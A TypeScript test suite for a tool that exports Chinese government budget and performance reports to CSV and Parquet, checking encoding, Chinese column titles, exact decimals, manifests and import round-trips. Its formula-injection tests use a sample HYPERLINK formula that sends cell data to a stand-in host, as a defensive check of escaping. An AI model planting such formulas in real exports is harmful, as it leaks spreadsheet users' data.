import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { main } from '../src/cli.js';
import type { Db } from '../src/db/database.js';
import { exportCanonical } from '../src/ingest/bulk/bulk-export.js';
import { BulkImportError, importCanonical } from '../src/ingest/bulk/bulk-import.js';
import { CHINESE_HEADERS, type HeaderLanguage } from '../src/ingest/bulk/canonical-headers.js';
import { CSV_MANIFEST_FILE, type CsvManifest } from '../src/ingest/bulk/csv-manifest.js';
import {
  CANONICAL_TABLES,
  canonicalColumns,
  ident,
  isReportChild,
  sqlPath,
  type CanonicalTable,
} from '../src/ingest/canonical-tables.js';
import { loadReport } from '../src/ingest/load/report-loader.js';
import { parseReport } from '../src/ingest/report/report-parser.js';
import { writeCorpus } from '../src/synthetic/corpus-writer.js';
import { REAL_REPORT_FILE, realReportText } from './support/real-report.js';
import { tempConfig, tempDatabase } from './support/temp-database.js';
import { testIo } from './support/test-io.js';

/**
 * The canonical CSV export: a file an analyst opens in Excel (BOM, Chinese titles, formula-like
 * texts escaped) that jixiao import and DuckDB still read back exactly (DECIMAL amounts, NULL
 * apart from "", the escape undone). The source holds the real 2023 report, a 2022 copy of it,
 * and a synthetic corpus of 3 departments x 2022-2023 (linked years, national-style texts).
 */

type TempDatabase = Awaited<ReturnType<typeof tempDatabase>>;

const temps: string[] = [];
function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'jixiao-csv-'));
  temps.push(dir);
  return dir;
}
afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true });
});

/** Loads the real report as stored for 2023, and as a 2022 report of the same department. */
async function loadRealReports(db: Db): Promise<void> {
  const text = realReportText();
  await loadReport(db.kysely, parseReport(text, REAL_REPORT_FILE), text);
  const older = text.replace('2023年度中国共产党', '2022年度中国共产党');
  await loadReport(db.kysely, parseReport(older, 'older.txt'), older);
}

/** The stored rows of a table as the export selects them: natural keys, no internal ids. */
async function canonicalRows(db: Db, table: CanonicalTable): Promise<unknown[][]> {
  return db.pool.withConnection(async (connection) => {
    const columns = await canonicalColumns(connection, table);
    const list = columns.map((c) =>
      c.name === 'department_code' && isReportChild(table)
        ? 'r.department_code'
        : `t.${ident(c.name)}`,
    );
    const from = isReportChild(table)
      ? `${table} t JOIN reports r ON r.id = t.report_id`
      : `${table} t`;
    const { rows } = await connection.query(`SELECT ${list.join(', ')} FROM ${from} ORDER BY ALL`);
    return rows.map((row) => Object.values(row));
  });
}

async function everyTable(db: Db): Promise<Record<string, unknown[][]>> {
  const out: Record<string, unknown[][]> = {};
  for (const table of CANONICAL_TABLES) out[table] = await canonicalRows(db, table);
  return out;
}

/** A CSV file's lines as text, BOM included. */
function lines(dir: string, table: CanonicalTable): string[] {
  return readFileSync(join(dir, `${table}.csv`), 'utf8')
    .trimEnd()
    .split('\n');
}

function manifestOf(dir: string): CsvManifest {
  return JSON.parse(readFileSync(join(dir, CSV_MANIFEST_FILE), 'utf8')) as CsvManifest;
}

/** A manifest query with the file's full path, as if run in the export's folder. */
function inFolder(dir: string, query: string, file: string): string {
  return query.replace(`read_csv(${sqlPath(file)}`, `read_csv(${sqlPath(join(dir, file))}`);
}

let source: TempDatabase;

beforeAll(async () => {
  source = await tempDatabase();
  await loadRealReports(source.db);
  const corpus = tempDir();
  await writeCorpus({ seed: 7, departments: 3, fromYear: 2022, toYear: 2023 }, corpus);
  await importCanonical(source.db.pool, { dir: corpus, format: 'ndjson' });
});
afterAll(async () => {
  await source.close();
});

describe('the canonical CSV export', () => {
  it('begins every file with a UTF-8 byte order mark, so that Excel reads it as UTF-8', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv' });
    const starts = CANONICAL_TABLES.map((t) =>
      readFileSync(join(dir, `${t}.csv`))
        .subarray(0, 3)
        .toString('hex'),
    );
    expect(starts).toEqual(CANONICAL_TABLES.map(() => 'efbbbf'));
  });

  it('titles its columns in Chinese by default', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv' });
    expect(lines(dir, 'expenditure_by_nature')[0]).toBe(
      '\uFEFF部门编码,年度,支出类别,年初预算数（万元）,全年预算数（万元）,决算数（万元）,行号,页码',
    );
  });

  it('titles its columns with the column names with headers en', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv', headers: 'en' });
    expect(lines(dir, 'expenditure_by_nature')[0]).toBe(
      '\uFEFFdepartment_code,year,category,initial_budget,full_year_budget,final,line,page',
    );
  });

  it('writes amounts as stored: the exact DECIMAL text, trailing zeros kept', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv', fromYear: 2023, toYear: 2023 });
    const rows = lines(dir, 'expenditure_by_nature').filter((l) => l.startsWith('gz-zfw,'));
    expect(rows).toContain('gz-zfw,2023,TOTAL,10283.32,10192.48,10105.79,435,5');
    expect(rows).toContain('gz-zfw,2023,PUBLIC,404.21,532.88,531.70,441,5');
  });

  it('has a Chinese title for every column of every canonical table, unique within its table', async () => {
    await source.db.pool.withConnection(async (connection) => {
      for (const table of CANONICAL_TABLES) {
        const columns = (await canonicalColumns(connection, table)).map((c) => c.name);
        const titles = CHINESE_HEADERS[table];
        expect({ table, columns: Object.keys(titles).sort() }).toEqual({
          table,
          columns: [...columns].sort(),
        });
        expect({ table, unique: new Set(Object.values(titles)).size }).toEqual({
          table,
          unique: Object.values(titles).length,
        });
      }
    });
  });
});

describe('the manifest of a CSV export', () => {
  let dir: string;
  let manifest: CsvManifest;
  beforeAll(async () => {
    dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv' });
    manifest = manifestOf(dir);
  });

  it("gives each column's title, DuckDB type and nullability", () => {
    const nature = manifest.tables.find((t) => t.table === 'expenditure_by_nature')!;
    expect(manifest).toMatchObject({ format: 'csv', encoding: 'UTF-8 with BOM', headers: 'zh' });
    expect(nature.file).toBe('expenditure_by_nature.csv');
    expect(nature.columns.find((c) => c.name === 'final')).toEqual({
      name: 'final',
      header: '决算数（万元）',
      type: 'DECIMAL(18,2)',
      nullable: true,
    });
    expect(manifest.tables.map((t) => t.table)).toEqual([...CANONICAL_TABLES]);
  });

  it('has a DuckDB query per table that reads back every row exactly, texts unescaped', async () => {
    for (const table of manifest.tables) {
      const { rows } = await source.db.pool.query(
        `SELECT * FROM (${inFolder(dir, table.duckdb, table.file)}) ORDER BY ALL`,
      );
      expect({ table: table.table, rows: rows.map((r) => Object.values(r)) }).toEqual({
        table: table.table,
        rows: await canonicalRows(source.db, table.table),
      });
    }
  });

  it('sums amounts exactly in DuckDB, where a guess of the types sums doubles', async () => {
    // 全年预算数 of the five rows of the real report's 表2: 10192.48 + 6759.56 + 6226.67 + 532.88 + 3432.92.
    const nature = manifest.tables.find((t) => t.table === 'expenditure_by_nature')!;
    const real = `WHERE "部门编码" = 'gz-zfw' AND "年度" = 2023`;
    const sum = 'sum("全年预算数（万元）")';
    const typed = await source.db.pool.query(
      `SELECT ${sum} AS total, typeof(${sum}) AS type FROM (${inFolder(dir, nature.duckdb, nature.file)}) ${real}`,
    );
    const guessed = await source.db.pool.query(
      `SELECT ${sum} AS total, typeof(${sum}) AS type FROM read_csv(${sqlPath(join(dir, nature.file))}) ${real}`,
    );
    expect(typed.rows[0]).toEqual({ total: '27144.51', type: 'DECIMAL(38,2)' });
    expect(guessed.rows[0]).toEqual({ total: 27144.510000000002, type: 'DOUBLE' });
  });
});

describe('import of a canonical CSV export', () => {
  let target: TempDatabase;
  beforeEach(async () => {
    target = await tempDatabase();
  });
  afterEach(async () => {
    await target.close();
  });

  for (const headers of ['zh', 'en'] as const satisfies readonly HeaderLanguage[]) {
    it(`round-trips every table exactly with headers ${headers}`, async () => {
      const dir = tempDir();
      await exportCanonical(source.db.pool, { dir, format: 'csv', headers });
      await importCanonical(target.db.pool, { dir, format: 'csv' });
      const stored = await everyTable(source.db);
      expect(stored.reports!.length).toBe(8);
      expect(await everyTable(target.db)).toEqual(stored);
    });
  }

  it('reads files without the byte order mark', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv' });
    for (const file of readdirSync(dir).filter((f) => f.endsWith('.csv')))
      writeFileSync(join(dir, file), readFileSync(join(dir, file)).subarray(3));
    await importCanonical(target.db.pool, { dir, format: 'csv' });
    expect(await everyTable(target.db)).toEqual(await everyTable(source.db));
  });

  it('names a bad value by the column title the file gives it', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv' });
    const file = join(dir, 'expenditure_by_nature.csv');
    const [header, ...rows] = lines(dir, 'expenditure_by_nature');
    const at = header!.split(',').indexOf('决算数（万元）');
    const edited = rows.map((row, i) =>
      i === 2
        ? row
            .split(',')
            .map((f, k) => (k === at ? '六千' : f))
            .join(',')
        : row,
    );
    writeFileSync(file, [header, ...edited].join('\n') + '\n');
    const error = await importCanonical(target.db.pool, { dir, format: 'csv' }).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(BulkImportError);
    expect((error as Error).message).toContain(
      'expenditure_by_nature.csv, row 3, column 决算数（万元）: "六千" is not a DECIMAL(18,2)',
    );
  });

  it('refuses a file that gives one column twice, under its title and its name', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'csv' });
    const [header, ...rows] = lines(dir, 'goals');
    expect(header).toBe('\uFEFF部门编码,年度,序号,绩效目标');
    writeFileSync(
      join(dir, 'goals.csv'),
      [header!.replace('序号', 'year'), ...rows].join('\n') + '\n',
    );
    await expect(importCanonical(target.db.pool, { dir, format: 'csv' })).rejects.toThrow(
      'goals.csv, column year: names the same column (year) as "年度"',
    );
  });
});

describe('parquet export', () => {
  it('keeps amounts DECIMAL and columns under their names', async () => {
    const dir = tempDir();
    await exportCanonical(source.db.pool, { dir, format: 'parquet' });
    const { rows } = await source.db.pool.query(
      `SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet(${sqlPath(join(dir, 'expenditure_by_nature.parquet'))}))`,
    );
    expect(rows.filter((r) => String(r.column_type).startsWith('DECIMAL'))).toEqual([
      { column_name: 'initial_budget', column_type: 'DECIMAL(18,2)' },
      { column_name: 'full_year_budget', column_type: 'DECIMAL(18,2)' },
      { column_name: 'final', column_type: 'DECIMAL(18,2)' },
    ]);
    expect(readdirSync(dir)).not.toContain(CSV_MANIFEST_FILE);
  });
});

/**
 * Texts Excel would run as formulas. The real report has one: indicator 3's target "=全年4期",
 * stored as its measure's target_source. The others are written into a copy of the real report
 * here, one per character that starts a formula, with the texts that must stay as they are.
 */
describe('text cells a spreadsheet would run as formulas', () => {
  let db: TempDatabase;
  let target: TempDatabase;
  let dir: string;
  const problems = [
    '=HYPERLINK("http://example.com/?d="&A1,"详情")',
    '+86 20 83123456',
    '-5%',
    '@SUM(A1:A9)',
    "'=已带引号的文本",
  ];
  const improvements = ['\t制表符开头', '-0.05', "'普通引号开头"];
  const goals = ['', '\r回车开头'];

  /** The cells of one column of a CSV file, as written (read as text, nothing undone). */
  async function written(table: CanonicalTable, title: string): Promise<unknown[]> {
    const { rows } = await db.db.pool.query(
      `SELECT ${ident(title)} AS cell FROM read_csv(${sqlPath(join(dir, `${table}.csv`))}, header = true, all_varchar = true, allow_quoted_nulls = false) WHERE "年度" = '2023' ORDER BY "部门编码", CAST("序号" AS INTEGER)`,
    );
    return rows.map((r) => r.cell);
  }

  beforeAll(async () => {
    db = await tempDatabase();
    target = await tempDatabase();
    await loadRealReports(db.db);
    const set = async (table: string, texts: string[]) => {
      for (const [i, text] of texts.entries())
        await db.db.pool.query(`UPDATE ${table} SET text = $1 WHERE seq = $2 AND year = 2023`, [
          text,
          i + 1,
        ]);
    };
    await set('problems', problems);
    await set('improvements', improvements);
    await set('goals', goals);
    await db.db.pool.query(
      "UPDATE expenditure_by_nature SET final = -531.70 WHERE year = 2022 AND category = 'PUBLIC'",
    );
    dir = tempDir();
    await exportCanonical(db.db.pool, { dir, format: 'csv' });
    await importCanonical(target.db.pool, { dir, format: 'csv' });
  });
  afterAll(async () => {
    await db.close();
    await target.close();
  });

  it('are written with a single quote in front', async () => {
    expect(await written('problems', '问题')).toEqual([
      `'=HYPERLINK("http://example.com/?d="&A1,"详情")`,
      "'+86 20 83123456",
      "'-5%",
      "'@SUM(A1:A9)",
      "''=已带引号的文本",
    ]);
    expect((await written('goals', '绩效目标')).slice(0, 2)).toEqual(['', "'\r回车开头"]);
  });

  it("are read back by import as they were stored, the real report's =全年4期 included", async () => {
    for (const table of ['problems', 'improvements', 'goals', 'indicator_measures'] as const)
      expect({ table, rows: await canonicalRows(target.db, table) }).toEqual({
        table,
        rows: await canonicalRows(db.db, table),
      });
    const { rows } = await target.db.pool.query(
      'SELECT target_source FROM indicator_measures WHERE year = 2023 AND seq = 3 AND measure_index = 0',
    );
    expect(rows).toEqual([{ target_source: '=全年4期' }]);
  });

  it('leave a text that is only a signed number, or begins with a quote alone, as it is', async () => {
    expect(await written('improvements', '改进措施')).toEqual([
      "'\t制表符开头",
      '-0.05',
      "'普通引号开头",
    ]);
  });

  it('never touch numbers: a negative amount stays a number', async () => {
    // 公用经费 of the 2022 copy, made negative here: the real report has no negative amount.
    expect(lines(dir, 'expenditure_by_nature')).toContain(
      'gz-zfw,2022,PUBLIC,404.21,532.88,-531.70,441,5',
    );
    expect(await canonicalRows(target.db, 'expenditure_by_nature')).toEqual(
      await canonicalRows(db.db, 'expenditure_by_nature'),
    );
  });
});

describe('jixiao export and import on the command line', () => {
  const configs: ReturnType<typeof tempConfig>[] = [];
  const config = () => {
    const c = tempConfig();
    configs.push(c);
    return c;
  };
  afterAll(() => configs.forEach((c) => c.cleanup()));

  it('writes Chinese titles by default, column names with --headers en, and imports either', async () => {
    const stored = config();
    await main(['ingest', 'seeds/reports'], testIo(), stored);
    for (const [flags, first] of [
      [[], '\uFEFF部门编码'],
      [['--headers', 'en'], '\uFEFFdepartment_code'],
    ] as const) {
      const dir = tempDir();
      const io = testIo();
      expect(await main(['export', dir, '--format', 'csv', ...flags], io, stored)).toBe(0);
      expect(io.stdout.at(-1)).toBe(
        `${join(dir, CSV_MANIFEST_FILE)}\tcolumn types and DuckDB queries`,
      );
      expect(lines(dir, 'reports')[0]!.split(',')[0]).toBe(first);
      const imported = testIo();
      expect(await main(['import', dir, '--format', 'csv'], imported, config())).toBe(0);
      expect(imported.stdout[0]).toMatch(/^imported 1 reports \(\d+ rows in 18 tables\)/);
    }
  });

  it('refuses --headers other than zh or en, and --headers with a format without titles', async () => {
    const wrong = testIo();
    expect(await main(['export', 'x', '--format', 'csv', '--headers', 'fr'], wrong, config())).toBe(
      2,
    );
    expect(wrong.stderr[0]).toContain('--headers must be one of zh, en');
    const parquet = testIo();
    expect(await main(['export', 'x', '--headers', 'zh'], parquet, config())).toBe(2);
    expect(parquet.stderr[0]).toContain('--headers applies to --format csv only');
  });
});
